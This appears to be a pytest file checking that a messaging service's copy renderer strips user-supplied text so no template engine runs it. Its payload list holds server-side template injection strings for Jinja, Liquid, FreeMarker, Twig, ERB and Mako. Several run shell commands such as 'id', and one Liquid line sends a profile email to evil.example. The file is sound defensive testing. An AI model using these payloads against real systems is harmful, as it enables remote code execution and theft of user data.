"""Nothing that a user writes about themselves is ever run: not by us, not by the provider."""

import ast
import unicodedata
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.builders import PUSH, a_text

from experiment_engine.domain.delivery import copy
from experiment_engine.domain.delivery.copy import Catalogue, Placeholder, clean
from experiment_engine.domain.errors import ConfigurationError

# Payloads of server-side template injection, by the engine that would run them.
PAYLOADS = [
    # CleverTap's Liquid
    "{{ Profile.Email }}",
    "{{Profile['Phone']}}",
    "{{ Event.Amount | times: 0 }}",
    "{%if true%}free{%endif%}",
    "{% assign x = Profile.Email %}{{x}}",
    "{%- raw -%}{{ x }}{%- endraw -%}",
    "{% include 'other' %}",
    "{% render 'other' %}",
    "{% for i in (1..1000000) %}{{ i }}{% endfor %}",
    "{% abort %}",
    "{% connected_content https://evil.example/?q={{Profile.Email}} %}",
    "{{ 'now' | date: '%s' }}",
    "{%comment%}",
    "{{-7*7-}}",
    "{# hidden #}",
    # Jinja and its escapes from the sandbox
    "{{7*7}}",
    "{{7*'7'}}",
    "{{config}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{% set x = ''|attr('format') %}{{ x }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{% print(7*7) %}",
    "{{ range(10**9)|list }}",
    # Python's own formatting
    "{0}",
    "{}",
    "{0.__class__}",
    "{show_name.__class__.__init__.__globals__}",
    "{plan_name}",
    "{show_name!r}",
    "{show_name:>1000000000}",
    "%(show_name)s",
    "%s%s%s%n",
    "$show_name",
    "${show_name}",
    # FreeMarker, Velocity, Thymeleaf, EL, ERB, Smarty, Twig, Handlebars, Mako, Go
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "${{7*7}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }',
    "#set($x=7*7)$x",
    "[[${7*7}]]",
    "__${7*7}__::.x",
    "<%= 7*7 %>",
    "<%= `id` %>",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{#with 's' as |string|}}{{/with}}",
    "{{{this}}}",
    "${self.module.cache.util.os.system('id')}",
    '{{printf "%s" "x"}}',
    # what may be read as braces, or hides them
    "\uff5b\uff5b 7*7 \uff5d\uff5d",
    "\ufe5b\ufe5b7*7\ufe5c\ufe5c",
    "{\u200b{ Profile.Email }\u200b}",
    "{\u202e{ Profile.Email }}",
    "{\x00{7*7}\x00}",
    "\ufe37\ufe37x\ufe38\ufe38",
]
FIRST = Placeholder("show_name", ("event_properties", "show_name"), default="your show")
SECOND = Placeholder("plan_name", ("event_properties", "plan"), default="your plan")
# Texts in which what a value ends with meets a literal, or another value.
AROUND = [
    "{show_name}",
    "{show_name}{plan_name}",
    "{plan_name}{show_name}",
    "%{show_name}%",
    "${show_name}",
    "#{show_name}#",
    "<{show_name}>",
    "a {show_name} b {plan_name} c",
]
HALVES = ["{", "}", "%", "{%", "%}", "{{", "}}", "$", "#", "\uff5b", "\u200b", "\u2060", "{\u00ad"]


def rendered(around: str, first: object, second: object) -> str:
    text = a_text(around)
    catalogue = Catalogue(
        {("en", "*", PUSH, "urgency", "*"): text}, {"show_name": FIRST, "plan_name": SECOND}
    )
    cleaned = {"show_name": clean(first), "plan_name": clean(second)}
    return catalogue.render(text, {n: value for n, value in cleaned.items() if value})[1]


def runs_nothing(text: str) -> bool:
    """Say whether no template engine finds an opening here, also after Unicode normalisation."""
    forms = (text, *(unicodedata.normalize(form, text) for form in ("NFC", "NFKC")))
    return not any("{" in form or "}" in form for form in forms)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_comes_out_as_letters(payload: str) -> None:
    """Nothing of it is filled in, run, or left in a form that the provider would run."""
    for around in AROUND:
        text = rendered(around, payload, payload)
        assert runs_nothing(text)
        assert "49" not in text
        assert len(text) <= 2 * 200 + len(around)
    shown = "".join(letter for letter in payload if letter.isalnum())
    assert "".join(x for x in rendered("{show_name}", payload, "") if x.isalnum()) == shown[:200]


def test_there_are_sixty_payloads() -> None:
    """The list does not shrink unseen."""
    assert len(PAYLOADS) >= 60


def test_halves_do_not_meet() -> None:
    """What opens in one value does not close in a literal or another value."""
    for around, first, second in product(AROUND, HALVES, HALVES):
        assert runs_nothing(rendered(around, f"x{first}", f"{second}x")), (around, first, second)


@given(
    st.text(
        st.sampled_from("{}%$#<> \u200b\u200d\u2060\ufeff\uff5b\uff5d\u202eab\n\x00"), max_size=400
    )
)
def test_any_mixture_runs_nothing(value: str) -> None:
    """Whatever braces, blanks and what nobody sees are mixed to."""
    for around in AROUND:
        assert runs_nothing(rendered(around, value, value[::-1]))


HIDDEN = (
    "\u00ad\u034f\u115f\u1160\u180b\u180e\u200b\u2060\u2063\u206a\u3164\ufeff\uffa0\ufff9"
    "\U000e0001\U000e0041"
)


@pytest.mark.parametrize("hidden", HIDDEN)
def test_what_nobody_sees_is_taken_out(hidden: str) -> None:
    """A word cannot be parted, doubled or made longer by characters without a shape."""
    assert clean(f"Mir{hidden * 3}zapur") == "Mirzapur"
    assert clean(hidden * 5) is None


def test_joiners_stay_where_a_script_needs_them() -> None:
    """One joiner is part of a word or an emoji; a row of them is a trick."""
    assert clean("\u0915\u094d\u200d\u0937") == "\u0915\u094d\u200d\u0937"
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert clean(family) == family
    assert clean("a\u200c\u200d\u200c\u200db") == "a\u200cb"


@pytest.mark.parametrize(
    "text",
    ["{{ Profile.Email }}", "{% if x %}a{% endif %}", "{{show_name}}", "a {", "}", "{0}", "{a.b}"],
)
def test_a_catalogue_s_own_text_has_no_liquid(text: str) -> None:
    """What the provider would run is refused when the text is read."""
    with pytest.raises(ConfigurationError):
        a_text(text)


def _called(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield (
                node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
            )
        if isinstance(node, ast.Import | ast.ImportFrom):
            yield from (alias.name for alias in node.names)


def test_the_renderer_evaluates_nothing() -> None:
    """It joins pieces: no eval, no format over data, no template engine."""
    called = set(_called(ast.parse(Path(copy.__file__).read_text())))
    assert not called & {"eval", "exec", "format", "format_map", "Template", "jinja2", "getattr"}
    assert "join" in called
